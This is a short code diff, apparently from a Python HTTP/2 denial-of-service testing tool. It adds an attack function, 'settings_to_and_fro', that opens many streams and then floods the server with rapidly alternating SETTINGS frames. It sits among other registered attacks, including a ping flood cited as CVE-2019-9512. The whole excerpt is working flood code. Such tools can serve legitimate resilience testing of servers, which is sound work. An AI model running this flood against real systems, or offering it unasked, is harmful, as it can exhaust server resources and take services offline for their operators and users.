@@ -297,6 +297,16 @@ def settings_dribble(line: Line) -> None:
             return
 
 
+@attack(CALM, "settings_flood")
+def settings_to_and_fro(line: Line) -> None:
+    """The same by more, and taken back at once, again and again: each time all streams are looked at."""
+    line.send(setting(4, 0) + window_update(0, _MOST_WINDOW) + b"".join(ask(stream, "/big") for stream in _STREAMS))
+    line.until(lambda: len(line.begun) == ALL)
+    for window in itertools.count(64, 64):
+        if not line.send((setting(4, window) + setting(4, window - 64)) * 50 + setting(4, window)) or line.wait(0.02):
+            return
+
+
 @attack(CALM, "ping_flood")
 def ping_flood(line: Line) -> None:
     """CVE-2019-9512."""
